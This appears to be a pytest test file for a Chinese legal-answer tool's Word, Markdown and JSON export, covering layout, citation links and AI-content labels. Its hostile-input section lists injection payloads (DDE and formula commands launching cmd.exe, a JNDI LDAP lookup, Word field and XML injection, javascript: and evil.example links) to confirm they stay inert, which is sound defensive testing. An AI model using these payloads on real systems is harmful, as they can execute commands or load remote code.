"""An answer as a Word document: what a reader, Word itself and an inspector of the file find in it."""

import json
import re
import zipfile
from dataclasses import replace
from datetime import date
from io import BytesIO
from pathlib import PurePath

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from docx.shared import Mm
from hypothesis import given, settings
from hypothesis import strategies as st
from small_library import ANSWERS, ARTICLES, HOSTILE, LAW, QUOTE, TODAY, open_small_library

from kb.document import conversation_docx, to_docx
from kb.errors import ConfigError
from kb.export import FORMATS, format_of
from kb.render import COMPOSED_LABEL, DIGEST_MARK, GENERATED_LABEL, NO_LEGAL_ADVICE, to_record
from kb.text import strip_controls
from kb.types import Answer, Citation, Claim, Notice, Outcome, Part, Question, Verdict
from tests.golden_answer import FILE, exported

OUTCOME, CLAIMS, CITATIONS = ANSWERS["赔偿"]
COMPOSED = Answer(Question("能要求赔偿吗", TODAY), OUTCOME, CLAIMS, CITATIONS, library_version="2026.11",
                  notices=(Notice("moved", "第十七条自2025-10-15起为第二十二条。"),), resolved="泄密能要求赔偿吗")
GENERATED = replace(COMPOSED, model="qwen3")
DOUBTFUL = replace(COMPOSED, citations=(replace(CITATIONS[0], verdict=Verdict.UNVERIFIED), CITATIONS[1]))
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def opened(answer: Answer):
    return docx.Document(BytesIO(to_docx(answer)))


def styled(answer: Answer) -> list[tuple[str, str]]:
    return [(paragraph.style.name, paragraph.text) for paragraph in opened(answer).paragraphs]


def texts(answer: Answer, style: str) -> list[str]:
    return [text for name, text in styled(answer) if name == style]


def part(answer: Answer, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(to_docx(answer))) as package:
        return package.read(name) if name in package.namelist() else b""


# -- what it says --------------------------------------------------------------------------------------------------

def test_the_parts_stand_in_order_each_in_its_style():
    assert styled(COMPOSED) == [
        ("Title", "知问回答"),
        ("知问标识", COMPOSED_LABEL),
        ("Heading 1", "问题"),
        ("Normal", "能要求赔偿吗"),
        ("Normal", "理解为：泄密能要求赔偿吗"),
        ("Heading 1", "回答"),
        ("Normal", "可以要求赔偿损失。[1]"),
        ("Heading 2", "法律依据"),
        ("List Bullet", f"《反不正当竞争法》（2025修订）第二十二条：“{QUOTE}”[1]"),
        ("List Bullet", f"偷来的商业秘密不得使用。（{DIGEST_MARK}）[2]"),
        ("Heading 2", "怎么做"),
        ("List Number", "先固定证据。"),
        ("Heading 2", "注意"),
        ("List Bullet", "第十七条自2025-10-15起为第二十二条。"),
        ("Heading 1", "来源"),
        ("知问来源", "[1]\t《中华人民共和国反不正当竞争法》（2025修订）第二十二条第一款"),
        ("知问来源说明", "官方文本 · 第 9 页 · 现行有效，2025-10-15 起施行 · ✓ 已与原文核对"),
        ("Quote", f"“{QUOTE}”"),
        ("知问来源说明", "https://www.example.gov.cn/art_1.html"),
        ("知问来源", "[2]\t《中华人民共和国反不正当竞争法》（2025修订）第十条"),
        ("知问来源说明", f"{DIGEST_MARK} · 现行有效，2025-10-15 起施行 · ✓ 数字与出处已核对"),
        ("Quote", "偷来的、骗来的、违反约定拿走的商业秘密，都不得使用。"),
        ("知问来源说明", "https://www.example.gov.cn/art_1.html"),
        ("知问附注", "以 2026-11-22 当日有效的文本为准 · 资料库 2026.11"),
        ("知问附注", NO_LEGAL_ADVICE),
    ]


def test_each_number_in_the_answer_leads_to_its_source():
    paragraphs = opened(COMPOSED).paragraphs
    led = [(link.fragment, link.text) for paragraph in paragraphs for link in paragraph.hyperlinks if link.fragment]
    assert led == [("source_1", "[1]"), ("source_1", "[1]"), ("source_2", "[2]")]
    reached = {start.get(qn("w:name")): paragraph.text[:3] for paragraph in paragraphs
               for start in paragraph._p.iter(qn("w:bookmarkStart"))}
    assert reached == {"source_1": "[1]", "source_2": "[2]"}


def test_what_is_not_verified_stands_out_in_the_answer_and_at_its_source():
    emphasised = [run.text for paragraph in opened(DOUBTFUL).paragraphs for run in paragraph.runs
                  if run.style.name == "知问未核实"]
    assert emphasised == ["（未核实）", "（未核实）", "未核实"]
    assert texts(DOUBTFUL, "Normal")[2] == "可以要求赔偿损失。[1]（未核实）"


@pytest.mark.parametrize("outcome", list(Outcome))
def test_an_answer_without_sources_has_no_list_of_them(outcome):
    paragraphs = styled(Answer(Question("今天天气", TODAY), outcome))
    assert [text for style, text in paragraphs if style == "Heading 1"] == ["问题", "回答"]
    assert [style for style, _ in paragraphs[5:]] == ["Normal", "知问附注", "知问附注"]
    assert paragraphs[5][1]


def test_a_real_answer_reads_as_a_lawyer_has_seen_it(bundled):
    assert exported(bundled) == FILE.read_text(encoding="utf-8"), "python -m tests.golden_answer writes it anew"


def test_a_saved_conversation_holds_each_answer_and_leads_each_number_to_its_own_source():
    document = docx.Document(BytesIO(conversation_docx([COMPOSED, GENERATED])))
    shown = [paragraph.text for paragraph in document.paragraphs]
    assert shown[0] == "知问对话"
    assert [text for text in shown if text in (COMPOSED_LABEL, GENERATED_LABEL)] == [COMPOSED_LABEL, GENERATED_LABEL]
    starts = [start for paragraph in document.paragraphs for start in paragraph._p.iter(qn("w:bookmarkStart"))]
    names = {start.get(qn("w:name")) for start in starts}
    assert len(names) == len({start.get(qn("w:id")) for start in starts}) == 4
    assert {link.fragment for paragraph in document.paragraphs for link in paragraph.hyperlinks if link.fragment} == names
    assert GENERATED_LABEL in document.sections[0].footer.paragraphs[0].text     # a page of it may be generated


# -- the label -----------------------------------------------------------------------------------------------------

def test_generated_text_is_labelled_at_the_top_on_every_page_and_in_the_metadata():
    document = opened(GENERATED)
    assert document.paragraphs[1].text == GENERATED_LABEL
    assert GENERATED_LABEL in document.sections[0].footer.paragraphs[0].text
    assert document.core_properties.comments == GENERATED_LABEL
    assert COMPOSED_LABEL not in "".join(text for _, text in styled(GENERATED))
    assert "模型 qwen3" in texts(GENERATED, "知问附注")[0]


def test_the_implicit_label_is_the_custom_property_of_the_standard():
    property_, = parse_xml(part(GENERATED, "docProps/custom.xml"))
    label = json.loads("".join(property_.itertext()))
    assert property_.get("name") == "AIGC"
    assert list(label) == ["Label", "ContentProducer", "ProduceID", "ReservedCode1", "ContentPropagator", "PropagateID",
                           "ReservedCode2"]
    assert (label["Label"], label["ContentProducer"]) == ("1", "知问 qwen3")
    assert re.fullmatch("[0-9a-f]{32}", label["ProduceID"])
    other = parse_xml(part(replace(GENERATED, claims=CLAIMS[1:]), "docProps/custom.xml"))
    assert label["ProduceID"] not in "".join(other.itertext())


def test_a_composed_answer_says_so_and_claims_no_model():
    document = opened(COMPOSED)
    assert document.core_properties.comments == COMPOSED_LABEL
    assert COMPOSED_LABEL in document.sections[0].footer.paragraphs[0].text
    assert part(COMPOSED, "docProps/custom.xml") == b""
    assert "人工智能" not in "".join(text for _, text in styled(COMPOSED))


# -- how Word shows it ---------------------------------------------------------------------------------------------

def test_the_page_is_a4_and_numbered():
    section, = opened(COMPOSED).sections
    assert abs(section.page_width - Mm(210)) < Mm(0.1)
    assert abs(section.page_height - Mm(297)) < Mm(0.1)
    fields = [field.get(qn("w:instr")) for field in section.footer._element.iter(qn("w:fldSimple"))]
    assert fields == ["PAGE", "NUMPAGES"]


@pytest.mark.parametrize(("style", "font"), [
    ("Normal", "宋体"), ("Title", "黑体"), ("Heading 1", "黑体"), ("Heading 2", "黑体"), ("List Number", "宋体"),
    ("List Bullet", "宋体"), ("Quote", "楷体"), ("Footer", "宋体"), ("知问来源", "宋体"),
])
def test_chinese_is_set_in_a_chinese_font_that_no_theme_overrides(style, font):
    fonts = opened(COMPOSED).styles[style].element.rPr.rFonts
    assert fonts.get(qn("w:eastAsia")) == font
    assert not [name for name in fonts.attrib if name.endswith("Theme")]


def test_lists_are_lists_of_word_and_not_typed_numbers():
    styles = opened(COMPOSED).styles
    assert styles["List Number"].element.pPr.numPr is not None
    assert styles["List Bullet"].element.pPr.numPr is not None
    assert texts(COMPOSED, "List Number") == ["先固定证据。"]


def test_nothing_is_embedded_and_no_time_or_maker_of_the_template_is_left():
    with zipfile.ZipFile(BytesIO(to_docx(COMPOSED))) as package:
        names = package.namelist()
    assert [name for name in names if re.search(r"font[^T]|media|thumbnail|embed|app\.xml|\.bin", name)] == []
    properties = opened(COMPOSED).core_properties
    assert (properties.author, properties.last_modified_by, properties.title) == ("知问", "知问", "知问回答")
    assert properties.created.date() == properties.modified.date() == TODAY


@pytest.mark.parametrize("day", [TODAY, date(1949, 10, 1), date(1, 1, 1), date(9999, 12, 31)])
def test_the_same_answer_gives_the_same_bytes_whenever_it_is_saved(day, monkeypatch):
    answer = replace(GENERATED, question=replace(GENERATED.question, as_of=day))
    first = to_docx(answer)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert to_docx(replace(answer, elapsed_ms=99.0)) == first
    with zipfile.ZipFile(BytesIO(first)) as package:
        assert len({entry.date_time for entry in package.infolist()}) == 1


# -- hostile and long text -----------------------------------------------------------------------------------------

ACTIVE = [HOSTILE, "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
          "{ HYPERLINK \"http://evil.example\" }", "{{7*7}} ${jndi:ldap://evil} %s", "</w:t></w:r><w:r><w:t>x", "&lt;b&gt; &#x41;",
          "<w:fldSimple w:instr=\"DATE\"/>", "[1] [2] （未核实）", "https://evil.example/a"]


def said_by_everyone(text: str) -> Answer:
    """`text` as question, claim, quotation, title, label, locator, notice, model and version."""
    law = replace(LAW, title=text, label=text, source_url=text)
    source = Citation(1, replace(ARTICLES[1], version=law, locator=text, text=text), text, text)
    return Answer(Question(text, TODAY), Outcome.ANSWERED, (Claim(text, (1,)), Claim(text, (), Part.STEPS)), (source,),
                  notices=(Notice("x", f"{text}。"),), resolved=text, model=text, library_version=text)


@pytest.mark.parametrize("text", ACTIVE)
def test_text_that_looks_active_stays_text(text):
    """Q09, Q10, Q11 and Q12 of the catalogue of bad inputs, whoever wrote them."""
    document = opened(said_by_everyone(text))
    shown = [paragraph.text for paragraph in document.paragraphs]
    assert shown[3] == text
    assert shown[4] == f"理解为：{text}"
    assert sum(text in line for line in shown) >= 8
    relations = [*document.part.rels.values(), *document.sections[0].footer.part.rels.values()]
    assert [relation.target_ref for relation in relations if relation.is_external] in ([], ["https://evil.example/a"])
    body = document.element.body
    assert not [node for tag in ("fldSimple", "instrText", "fldChar", "object", "altChunk") for node in body.iter(qn(f"w:{tag}"))]


def test_only_the_recorded_official_address_becomes_a_link():
    def links(answer: Answer) -> set[str]:
        return {relation.target_ref for relation in opened(answer).part.rels.values() if relation.reltype == HYPERLINK}

    assert links(COMPOSED) == {LAW.source_url}
    assert links(open_small_library().assistant.ask(Question(f"材料 {HOSTILE}", TODAY))) == set()
    assert links(said_by_everyone("javascript:alert(1)")) == set()


@pytest.mark.parametrize("text", ["a\x00b", "a\x0bb", "a\x1bb", "a\ud800b", "a\ufffeb", "a\uffffb", "a\u202eb", "a\u200bb"],
                         ids=ascii)
def test_characters_that_xml_or_a_reader_cannot_have_are_left_out(text):
    assert texts(said_by_everyone(text), "Normal")[0] == "ab"


def test_nobody_can_write_the_sign_of_a_citation():
    forged = replace(COMPOSED, claims=(Claim("有出处\x1e1\x1e", ()),), notices=())
    assert texts(forged, "Normal")[2] == "有出处1"
    assert not [link for paragraph in opened(forged).paragraphs for link in paragraph.hyperlinks if link.fragment]


@settings(max_examples=30, deadline=None)
@given(st.text())
def test_whatever_is_written_is_what_is_read(text):
    read = texts(said_by_everyone(text), "Normal")[0]
    assert read == re.sub("[\ufffe\uffff]", "", strip_controls(text)).strip()


def test_a_long_answer_keeps_every_paragraph_and_line():
    passage = replace(ARTICLES[0], text="\n".join(f"第{n}款的文字。" for n in range(400)))
    sources = tuple(Citation(n, passage, passage.text, "第二十一条", Verdict.VERBATIM) for n in range(1, 61))
    long = replace(COMPOSED, citations=sources,
                   claims=tuple(Claim(f"第{n}步。" + "很长" * 2000, (n % 60 + 1,), Part.STEPS) for n in range(300)))
    assert len(texts(long, "List Number")) == 300
    quotes = texts(long, "Quote")
    assert len(quotes) == 60
    assert quotes[0] == f"“{passage.text}”"


# -- the other formats ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "media_type"), [
    ("a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"), ("b.MD", "text/markdown"),
    ("a.b.json", "application/json"),
])
def test_the_end_of_the_name_decides_the_format(name, media_type):
    assert format_of(PurePath(name)).media_type == media_type


@pytest.mark.parametrize("name", ["a.pdf", "a", "docx", ".md", "a.doc"])
def test_another_ending_is_refused_and_the_three_are_named(name):
    with pytest.raises(ConfigError) as refused:
        format_of(PurePath(name))
    assert all(suffix in str(refused.value) for suffix in (".docx", ".md", ".json"))


@pytest.mark.parametrize("answer", [COMPOSED, GENERATED, DOUBTFUL, said_by_everyone(HOSTILE), said_by_everyone("a\ud800b")],
                         ids=["composed", "generated", "doubtful", "hostile", "surrogate"])
@pytest.mark.parametrize("kind", FORMATS, ids=lambda kind: kind.suffix)
def test_every_format_says_how_the_text_came_about_and_that_it_is_no_legal_advice(kind, answer):
    written = kind.write(answer)
    shown = (" ".join(p.text for p in docx.Document(BytesIO(written)).paragraphs) if kind.suffix == ".docx"
             else written.decode("utf-8"))
    assert (GENERATED_LABEL if answer.model else COMPOSED_LABEL) in shown
    assert NO_LEGAL_ADVICE in shown
    assert TODAY.isoformat() in shown.replace("\\", "")


def test_the_json_file_is_the_record_with_question_label_and_verdicts():
    written = json.loads(format_of(PurePath("a.json")).write(DOUBTFUL))
    record = to_record(DOUBTFUL)
    assert [citation.pop("verdict") for citation in written["citations"]] == ["unverified", "supported"]
    assert {name: written[name] for name in record} == record
    assert {name: written[name] for name in written.keys() - record.keys()} == {
        "question": "能要求赔偿吗", "as_of": "2026-11-22", "resolved": "泄密能要求赔偿吗", "label": COMPOSED_LABEL,
        "limits": NO_LEGAL_ADVICE}


def test_the_json_file_of_generated_text_carries_the_implicit_label_too():
    assert json.loads(format_of(PurePath("a.json")).write(GENERATED))["AIGC"]["Label"] == "1"
